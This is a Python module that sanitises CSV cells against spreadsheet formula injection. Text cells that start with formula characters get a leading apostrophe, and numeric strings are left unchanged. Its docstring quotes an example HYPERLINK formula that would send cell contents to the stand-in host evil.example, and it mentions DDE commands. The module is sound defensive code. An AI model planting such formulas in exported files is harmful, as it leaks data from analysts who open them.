"""Cells a spreadsheet will not run: every CSV the app writes passes its text cells through ``cell``.

A spreadsheet opening a CSV treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: ``=HYPERLINK("https://evil.example?"&A1, "Click")`` or a DDE command in an
area name, a variable label or a profile heading would run on the analyst's machine ("CSV injection",
OWASP). Such a text cell is written with a leading apostrophe, which spreadsheets show as text and do not
evaluate. Numbers are left alone, also when they arrive as text ("-3.2", "1e-05"): a number is not a formula,
and a column of values must stay a column of numbers.

Used by the values CSV (web/api.py), the datapack's CSVs and variables.csv (datapack.py) and the profile CSV
(compare.py). This module imports nothing of the project.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "cell", "is_number", "row"]

#: What a spreadsheet may read as the start of a formula (leading spaces are skipped by some).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_number(text: str) -> bool:
    """True when ``text`` is a plain decimal number such as ``-3.2``, ``+1`` or ``1e-05``."""
    return _NUMBER.fullmatch(text) is not None


def cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as written: text that could start a formula gets a leading
    apostrophe; numbers, None and text that is a plain number are returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.lstrip(" ").startswith(FORMULA_STARTS) and not is_number(value.strip(" ")):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A CSV row with every cell through ``cell``."""
    return [cell(v) for v in values]
